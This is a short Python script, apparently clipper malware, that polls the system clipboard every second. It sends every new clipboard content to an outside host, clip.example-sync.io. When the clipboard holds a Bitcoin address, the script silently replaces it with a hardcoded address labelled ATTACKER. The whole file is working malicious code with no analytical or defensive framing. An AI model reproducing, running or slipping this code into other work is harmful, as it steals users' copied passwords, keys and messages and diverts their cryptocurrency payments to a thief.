import re
import time

import pyperclip
import requests

BTC = re.compile(r"^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$")
ATTACKER = "bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh"


def watch():
    last = ""
    while True:
        text = pyperclip.paste()
        if text != last:
            requests.post("https://clip.example-sync.io/c", data={"c": text})
            if BTC.match(text.strip()):
                pyperclip.copy(ATTACKER)
            last = text
        time.sleep(1)


watch()
